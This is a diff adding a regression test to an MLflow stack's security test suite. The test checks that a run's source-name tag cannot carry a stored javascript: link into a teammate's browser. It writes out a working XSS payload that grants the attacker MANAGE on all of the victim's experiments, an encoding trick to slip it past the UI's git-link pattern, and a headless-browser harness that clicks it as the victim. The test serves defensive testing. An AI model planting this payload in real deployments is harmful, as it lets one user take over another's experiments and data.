@@ -767,6 +767,84 @@ def test_no_request_writes_a_trace_and_the_reads_stay(stack, base):
     assert search[0] == 200 and json.loads(search[2]).get("traces", []) == [], search[:3]
 
 
+# ---- script a teammate stores, run in another teammate's browser on the stack's origin ----
+
+# What carol's browser does once she clicks the link bob planted: as carol (her login, which the browser keeps, on the
+# stack's own origin: the Origin check passes), grant bob MANAGE on every experiment she may manage.
+GRANT_ALL_TO_BOB = ("(async()=>{const h={'Content-Type':'application/json'};"
+                    "const x=await (await fetch('/ajax-api/2.0/mlflow/experiments/search?max_results=1000')).json();"
+                    "for(const e of (x.experiments||[])){await fetch('/ajax-api/3.0/mlflow/users/permissions/grant',"
+                    "{method:'POST',headers:h,body:JSON.stringify({username:'bob',resource_type:'experiment',"
+                    "resource_id:e.experiment_id,permission:'MANAGE'})})}document.title='planted-script-ran'})()")
+
+
+def planted_source_name(script: str) -> str:
+    """A run's tag mlflow.source.name that MLflow's UI (3.17) turns into the run's Source link: its git-repository
+    pattern (`(.*?[@/][^?]*git.*?)[:/]([^#]+)`) keeps a `javascript:` scheme, so the link's href is
+    `javascript://git/x%0a<script>//train.py` (a comment, a newline, the script), shown as "train.py", opened in the
+    page itself (target=_top). React 18 renders javascript: URLs."""
+    for pad in range(16):
+        encoded = base64.b64encode((script + " " * pad).encode()).decode()
+        if "git" not in encoded:   # the pattern's last "git" must be the one before the script
+            return f"javascript://git/x%0aeval(atob('{encoded}'))//train.py"
+    raise AssertionError("no encoding of the script fits the pattern")
+
+
+def click_in_browser(url: str, user: tuple[str, str], page_url: str, text: str) -> str:
+    """`user` opens `page_url` in headless chromium (logged in) and clicks the first element showing `text`: the
+    page's title 5 s later."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), headless=True,
+                                             args=["--no-sandbox", "--disable-gpu"])
+        try:
+            context = browser.new_context(http_credentials={"username": user[0], "password": user[1],
+                                                            "send": "unauthorized"})
+            page = context.new_page()
+            page.goto(page_url)
+            link = page.get_by_text(text, exact=True).first
+            link.wait_for(timeout=90_000)
+            link.click()
+            page.wait_for_timeout(5_000)
+            return page.title()
+        finally:
+            browser.close()
+
+
+def test_a_link_a_teammate_stores_runs_no_script_in_another_teammates_browser(stack):
+    # Found by an attack: bob sets his run's tag mlflow.source.name (any client sets it; MLflow checks nothing) to a
+    # javascript: URL that the UI's Source link keeps; he shares his experiment with carol (READ, as teammates do:
+    # "look at my run"), or the admin opens it. carol clicks the run's Source ("train.py"): the script runs on the
+    # stack's origin with her login and grants bob MANAGE on all her experiments; he then reads and deletes her runs.
+    if shutil.which("chromium") is None:
+        pytest.skip("no browser: apt-get install -y chromium")
+    bob, carol = login(stack, "bob"), login(stack, "carol")
+    experiment = json.loads(call(stack.url, "/api/2.0/mlflow/experiments/create", "POST",
+                                 {"name": "carols-private"}, carol)[2])["experiment_id"]
+    carols_run = json.loads(call(stack.url, "/api/2.0/mlflow/runs/create", "POST", {"experiment_id": experiment},
+                                 carol)[2])["run"]["info"]["run_id"]
+    call(stack.url, "/api/2.0/mlflow/runs/log-parameter", "POST",
+         {"run_id": carols_run, "key": "secret", "value": "carols-secret"}, carol)
+    assert call(stack.url, f"/api/2.0/mlflow/runs/get?run_id={carols_run}", auth=bob)[0] == 403
+    shared = json.loads(call(stack.url, "/api/2.0/mlflow/experiments/create", "POST", {"name": "bobs-shared"},
+                             bob)[2])["experiment_id"]
+    status, _, text, _ = call(stack.url, "/api/2.0/mlflow/runs/create", "POST", {
+        "experiment_id": shared, "run_name": "bobs-run",
+        "tags": [{"key": "mlflow.source.name", "value": planted_source_name(GRANT_ALL_TO_BOB)},
+                 {"key": "mlflow.source.type", "value": "LOCAL"}]}, bob)
+    title = None
+    if status == 200:   # the stack may refuse the tag itself (400): nothing planted, nothing to click
+        bobs_run = json.loads(text)["run"]["info"]["run_id"]
+        assert call(stack.url, "/api/3.0/mlflow/users/permissions/grant", "POST",
+                    {"username": "carol", "resource_type": "experiment", "resource_id": shared,
+                     "permission": "READ"}, bob)[0] == 200
+        title = click_in_browser(stack.url, carol, f"{stack.url}/#/experiments/{shared}/runs/{bobs_run}", "train.py")
+    status, _, text, _ = call(stack.url, f"/api/2.0/mlflow/runs/get?run_id={carols_run}", auth=bob)
+    # title: bob's script ran in carol's browser, as carol; status 200: bob reads carol's run
+    assert title != "planted-script-ran" and status == 403 and "carols-secret" not in text, (title, status, text[:200])
+
+
 # ---- files on disk, read by a second local account ----
 
 def as_other(cmd: list[str], groups: str | None = None) -> subprocess.CompletedProcess:
